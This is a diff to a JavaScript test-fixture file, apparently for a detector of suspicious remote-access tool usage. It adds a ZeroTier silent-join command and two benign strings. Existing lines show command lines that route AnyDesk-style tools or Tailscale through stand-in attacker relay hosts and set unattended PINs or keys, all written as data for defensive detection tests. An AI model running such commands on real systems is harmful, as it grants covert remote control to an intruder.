@@ -40,6 +40,7 @@ const unusual = [
 	['x.exe "?e=Access&y=Guest&h=relay.attacker.example&p=443"',
 		'relay or account'],
 	['remoting_start_host.exe --pin=123456', 'unattended password'],
+	['zerotier-one_x64.exe -q join 632ea2908589098f', 'relay or account'],
 	['dwagent.exe -silent key=281-407-902', 'silent installation'],
 	['tailscale.exe up --login-server=https://hs.attacker.example',
 		'relay or account'],
@@ -47,7 +48,7 @@ const unusual = [
 const usual = ['"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --service',
 	'AnyDesk.exe --control', 'AnyDesk.exe', 'AnyDesk.exe --silently',
 	'AnyDesk.exe C:\\install\\silent.txt', '',
-	'AnyDesk.exe --get-id --passwordless'];
+	'AnyDesk.exe --get-id --passwordless', 'x.exe -s on -q', 'x.exe join us'];
 const plain = 'AnyDesk.exe';
 
 module.exports = [
